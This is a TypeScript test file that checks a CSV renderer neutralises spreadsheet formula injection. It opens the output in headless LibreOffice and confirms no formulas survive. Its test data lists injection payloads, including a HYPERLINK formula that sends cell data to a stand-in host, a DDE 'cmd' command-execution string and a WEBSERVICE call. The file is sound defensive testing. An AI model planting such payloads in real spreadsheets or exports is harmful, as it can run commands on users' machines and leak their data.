import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { render } from '../../src/render/render.ts';
import { columns, listOf } from '../../src/render/view.ts';
import { isThere } from '../shells/fixture.ts';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'remit-office-'));
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** What a spreadsheet would run, in every way that it may begin. */
const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '\t=1+1', '\r=1+1', '\n=1+1', '\u0000=1+1', ' =1+1'],
  ...[
    '=HYPERLINK("http://x.test/?"&A1,"click")',
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://x.test")',
  ],
  ...[
    '="a""b"',
    '=1+1;=2+2',
    '"=1+1"',
    '=1+1\n=2+2',
    '-1+cmd|1!A1',
    '+49 89 1234',
    '=DDE("a";"b";"c")',
  ],
];

const view = listOf(columns('id', 'memo', 'amount:money'), 'Nothing.');

async function csvOf(rows: readonly object[], rawCsv = false): Promise<string> {
  let text = '';
  for await (const chunk of render(view, rows, { format: 'csv', rawCsv })) text += chunk;
  return text;
}

/** A file as a spreadsheet keeps it once it was opened: its cells say which of them are formulas. */
function opened(name: string, csv: string): string {
  writeFileSync(join(folder, `${name}.csv`), csv);
  const home = `-env:UserInstallation=file://${folder}/home`;
  const how = ['--infilter=CSV:44,34,76,1', '--convert-to', 'fods', '--outdir', folder];
  execFileSync('soffice', [home, '--headless', ...how, join(folder, `${name}.csv`)], {
    ...{ stdio: 'ignore', timeout: 120_000 },
    env: { PATH: process.env['PATH'] ?? '', HOME: folder },
  });
  return readFileSync(join(folder, `${name}.fods`), 'utf8');
}

const formulasIn = (sheet: string) => sheet.match(/table:formula="[^"]*"/g) ?? [];

const rows = formulas.map((memo, at) => ({ id: `pay_${at}`, memo, amount: -12.5 - at }));

test('a spreadsheet executes nothing in the CSV, and sums its amounts', {
  timeout: 240_000,
}, async ({ skip }) => {
  if (!isThere('soffice')) skip('no office suite is installed here: bash .ci/office');
  const sheet = opened('safe', await csvOf(rows));
  expect(formulasIn(sheet)).toEqual([]);
  expect(sheet.match(/office:value="-\d+(\.\d+)?"/g)).toHaveLength(rows.length);
  expect(sheet).toContain('HYPERLINK');

  // The same without the apostrophes does run: it is they that keep it from doing so.
  expect(formulasIn(opened('raw', await csvOf(rows, true))).length).toBeGreaterThan(5);
});
